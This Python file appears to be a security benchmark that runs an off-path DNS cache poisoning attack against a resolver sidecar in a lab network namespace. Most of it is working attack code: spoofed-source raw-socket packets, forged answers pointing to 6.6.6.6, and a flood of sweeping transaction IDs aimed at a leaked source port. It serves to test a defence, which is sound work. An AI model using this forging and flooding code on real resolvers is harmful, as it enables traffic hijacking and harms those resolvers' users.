#!/usr/bin/env python3
"""benches/security/spoof.py - off-path cache poisoning against a sidecar (issue 19), stdlib only.

Runs in the pod's namespace (clients ask the sidecar on --server); its raw socket is made in the
attacker's namespace (--atk-ns, setns(2)), so the forged packets arrive on the pod's other veth,
from outside, with the upstream's address as their source (the pod accepts them: rp_filter=0, as
a cluster network without source validation would).

Each query (or round) is one unique name under slow.example.net, which the upstream answers after
--delay ms. While it is outstanding the attacker sends forged answers (source upstream:53, the
right question, A 6.6.6.6, UDP checksum 0, which is legal for IPv4) to the one source port it
knows, each with the next ID of a sweep from a random start, paced at --rate a second for the
whole delay window: --rate x --delay / 1000 distinct IDs per query.

What the attacker knows of the port ("known source port", as a leaked query log would give it):
  --learn first      the source port of the sidecar's first query the upstream logged (a warm-up
                     query, not counted), used for every later query
  --learn every:S    the latest port the upstream logged, re-read every S seconds
Modes:
  --clients 1        --queries sequential queries; poisoned = the client's answer holds 6.6.6.6
  --clients N        --rounds rounds, N clients asking the same new name at once each round;
                     a round is poisoned when any of its clients got 6.6.6.6

Prints one JSON object: poisoned queries or rounds, answered, failed, forged packets and the
achieved rate, and from the upstream's log (lines written during this run, from --sidecar-ip):
upstream queries per name (mean, max), distinct source ports, queries. Per-query records go to
--raw.
"""

import argparse
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
import dnslib  # noqa: E402

POISON = "6.6.6.6"


def forged_template(src_ip, dst_ip, dport, qname):
    dns = struct.pack(">HHHHHH", 0, 0x8180, 1, 1, 0, 0) + dnslib.encode_name(qname) + struct.pack(">HH", 1, 1)
    dns += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + socket.inet_aton(POISON)
    udp = struct.pack(">HHHH", 53, dport, 8 + len(dns), 0)  # checksum 0: none (RFC 768)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(dns), 0, 0, 64, 17, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    return bytearray(ip + udp + dns)  # the DNS ID sits at offset 28


class UpLog:
    """The upstream's JSON-lines log, read from where it stood when this run began."""

    def __init__(self, path, sidecar_ip):
        self.path, self.ip = path, sidecar_ip
        self.start = os.path.getsize(path) if os.path.exists(path) else 0
        self.pos = self.start
        self.latest = None  # the latest source port seen from the sidecar

    def poll(self):
        with open(self.path) as f:
            f.seek(self.pos)
            for line in f:
                if not line.endswith("\n"):
                    break
                self.pos += len(line.encode())
                try:
                    rec = json.loads(line)
                except ValueError:
                    continue
                if rec.get("src") == self.ip and rec.get("proto") == "udp":
                    self.latest = rec["sport"]
        return self.latest

    def records(self):
        with open(self.path) as f:
            f.seek(self.start)
            for line in f:
                try:
                    rec = json.loads(line)
                except ValueError:
                    continue
                if rec.get("src") == self.ip and "qname" in rec:
                    yield rec


def flood(raw, tmpl, dst_ip, window, rate, stats):
    """Forged answers with IDs sweeping from a random start, paced at RATE/s for WINDOW s."""
    qid = random.randrange(65536)
    stats["id_start"], stats["t_start"] = qid, time.time()
    sent = 0
    start = time.monotonic()
    while True:
        el = time.monotonic() - start
        if el >= window:
            break
        due = min(int(el * rate) + 1, 65536)
        while sent < due:
            struct.pack_into(">H", tmpl, 28, qid)
            try:
                raw.sendto(tmpl, (dst_ip, 0))
            except OSError:
                stats["send_errors"] += 1
            qid = (qid + 1) & 0xFFFF
            sent += 1
    stats["forged"] += sent
    stats["flood_s"] += time.monotonic() - start
    stats["last_sent"] = sent


def ask(socks, server, name):
    ids = []
    for s in socks:
        q = dnslib.query(name)
        ids.append(struct.unpack(">H", q[:2])[0])
        s.sendto(q, server)
    return ids


def collect(socks, ids, timeout):
    """Outcome per client: poisoned, ok, servfail/rcodeN, timeout."""
    out = []
    deadline = time.monotonic() + timeout
    for s, qid in zip(socks, ids):
        res = "timeout"
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            s.settimeout(left)
            try:
                msg = s.recv(4096)
            except (socket.timeout, OSError):
                break
            try:
                r = dnslib.parse(msg)
            except (ValueError, struct.error, IndexError):
                continue
            if r["id"] != qid:
                continue
            if POISON in r["answers_a"]:
                res = "poisoned"
            elif r["rcode"] == 0 and r["answers_a"]:
                res = "ok"
            else:
                res = "rcode%d" % r["rcode"]
            break
        out.append(res)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", default="127.0.0.1:53")
    ap.add_argument("--atk-ns", default="sdsx-atk")
    ap.add_argument("--upstream-ip", default="10.98.0.2")
    ap.add_argument("--sidecar-ip", default="10.98.0.1", help="the sidecar's address toward the upstream")
    ap.add_argument("--uplog", required=True)
    ap.add_argument("--learn", default="first")
    ap.add_argument("--clients", type=int, default=1)
    ap.add_argument("--queries", type=int, default=300)
    ap.add_argument("--rounds", type=int, default=40)
    ap.add_argument("--rate", type=float, default=20000)
    ap.add_argument("--delay", type=float, default=150, help="ms: the upstream's answer delay, the flood window")
    ap.add_argument("--tag", default="run")
    ap.add_argument("--raw", default=os.devnull)
    args = ap.parse_args()
    host, port = args.server.rsplit(":", 1)
    server = (host, int(port))

    home = os.open("/proc/self/ns/net", os.O_RDONLY)
    dnslib.setns(args.atk_ns)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dnslib.setns(f"/proc/self/fd/{home}")
    os.close(home)

    log = UpLog(args.uplog, args.sidecar_ip)
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(args.clients)]
    run = f"{args.tag}-{random.randrange(1 << 30):x}"
    window = args.delay / 1000.0
    stats = {"forged": 0, "flood_s": 0.0, "send_errors": 0}

    # Warm-up: one query the attacker cannot aim at, whose source port it then learns.
    collect(socks[:1], ask(socks[:1], server, f"learn-{run}.slow.example.net"), 3)
    time.sleep(0.05)
    port = log.poll()
    if port is None:
        print(json.dumps({"error": "the upstream logged no query from the sidecar"}))
        return 1
    every = float(args.learn.split(":", 1)[1]) if args.learn.startswith("every:") else None
    learned_at = time.monotonic()
    ports_aimed = {port}

    n = args.queries if args.clients == 1 else args.rounds
    outcome = {"poisoned": 0, "ok": 0, "failed": 0}
    clients_poisoned = 0
    names = []
    with open(args.raw, "a") as raw_out:
        for i in range(n):
            if every is not None and time.monotonic() - learned_at >= every:
                port = log.poll() or port
                learned_at = time.monotonic()
                ports_aimed.add(port)
            name = f"q{i}-{run}.slow.example.net"
            names.append(name.lower() + ".")
            tmpl = forged_template(args.upstream_ip, args.sidecar_ip, port, name)
            ids = ask(socks, server, name)
            flood(raw, tmpl, args.sidecar_ip, window, args.rate, stats)
            res = collect(socks, ids, 3.0)
            p = res.count("poisoned")
            clients_poisoned += p
            key = "poisoned" if p else ("ok" if res.count("ok") == len(res) else "failed")
            outcome[key] += 1
            # The sweep of this query: IDs id_start, id_start+1, ... (mod 65536), `forged` of them,
            # paced at --rate from t_start (wall clock, as the upstream's log): which forged ID
            # hit which copy can be worked out afterwards.
            raw_out.write(json.dumps({"i": i, "name": name, "port": port, "results": res,
                                      "id_start": stats["id_start"], "t_start": round(stats["t_start"], 4),
                                      "forged": stats["last_sent"]}) + "\n")

    # What the upstream saw from the sidecar during this run.
    per_name = {nm: 0 for nm in names}
    sports, total = set(), 0
    for rec in log.records():
        total += 1
        if rec.get("proto") == "udp":
            sports.add(rec["sport"])
        q = rec["qname"].lower()
        if q in per_name:
            per_name[q] += 1
    counts = list(per_name.values())
    print(json.dumps({
        "clients": args.clients, "learn": args.learn, "n": n, **outcome,
        "clients_poisoned": clients_poisoned, "forged": stats["forged"],
        "achieved_rate": round(stats["forged"] / stats["flood_s"]) if stats["flood_s"] else 0,
        "ids_per_query": round(stats["forged"] / n) if n else 0, "send_errors": stats["send_errors"],
        "ports_aimed": len(ports_aimed), "upstream_queries": total,
        "upstream_per_name_mean": round(sum(counts) / len(counts), 3) if counts else 0,
        "upstream_per_name_max": max(counts) if counts else 0,
        "upstream_distinct_ports": len(sports),
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main())
